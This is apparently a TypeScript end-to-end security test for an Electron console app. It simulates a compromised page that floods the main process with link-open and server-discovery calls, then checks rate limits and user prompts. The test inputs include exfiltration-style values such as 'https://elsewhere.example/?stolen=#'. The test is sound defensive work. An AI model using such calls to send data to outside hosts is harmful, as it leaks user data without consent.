import { randomUUID } from 'node:crypto';
import { existsSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, it } from 'vitest';
import type { Page } from 'playwright-core';
import type { DemoRealm } from '@realm-console/demo-realm';
import { addOrganization, openConsole, openRealm, type RunningConsole } from '../e2e/console.ts';

/** What a compromised page of ours can make the main process send outside, tried in the running app. */
const openedLinks = join(tmpdir(), `opened-links-${randomUUID()}`);
/** Electron opens URLs in a browser; the shell records them, and answers questions as instructed. */
const isRecorded = process.env['REALM_CONSOLE_TEST_ELECTRON'] === undefined;
let realm: DemoRealm;
let app: RunningConsole;
let page: Page;

beforeAll(async () => {
  realm = await openRealm();
  app = await openConsole({
    env: { REALM_CONSOLE_OPENED_LINKS: openedLinks, REALM_CONSOLE_PRESSED_BUTTON: 'Open' },
  });
  page = app.page;
  await addOrganization(page, realm);
});
afterAll(async () => {
  await app?.close();
  await app?.remove();
  await realm?.close();
  rmSync(openedLinks, { force: true });
});

const opened = (): string[] =>
  existsSync(openedLinks) ? readFileSync(openedLinks, 'utf8').split('\n').filter(Boolean) : [];

/** Makes many calls to main at once, like a compromised page; `#` in the input is the number of the call. */
function callAtOnce(name: string, input: object, times: number): Promise<string[]> {
  return page.evaluate(
    async ({ name, input, times }) => {
      type Bridge = {
        invoke(name: string, input: unknown, id: number): Promise<{ ok: boolean; failure?: object }>;
      };
      const bridge = (globalThis as unknown as { realmConsole: Bridge }).realmConsole;
      const answers = Array.from({ length: times }, (_, number) => {
        const own = JSON.parse(JSON.stringify(input).replaceAll('#', String(number))) as unknown;
        return bridge.invoke(name, own, 1_000_000 + number);
      });
      return (await Promise.all(answers)).map((answer) => JSON.stringify(answer.failure ?? 'done'));
    },
    { name, input, times },
  );
}

it.runIf(isRecorded)(
  'a window opens a few addresses at once, and none elsewhere without an answer',
  async () => {
    const questions = () => app.output().split('Open elsewhere.example in the browser?').length - 1;
    await page.getByRole('heading', { name: 'People' }).first().click();
    const answers = await callAtOnce('link.open', { url: 'https://elsewhere.example/?stolen=#' }, 500);
    const done = answers.filter((answer) => answer === '"done"').length;
    expect(done).toBeGreaterThan(0);
    expect(done).toBeLessThanOrEqual(6);
    expect(opened()).toHaveLength(done);
    expect(questions()).toBe(done);
  },
);

it('a window can contact at most ten servers without an organization', async () => {
  const input = { discoveryId: 'of-the-page', address: 'stolen-#.invalid' };
  const answers = await callAtOnce('organization.discover', input, 50);
  expect(answers.filter((answer) => answer.includes('rate-limited')).length).toBeGreaterThanOrEqual(40);
});
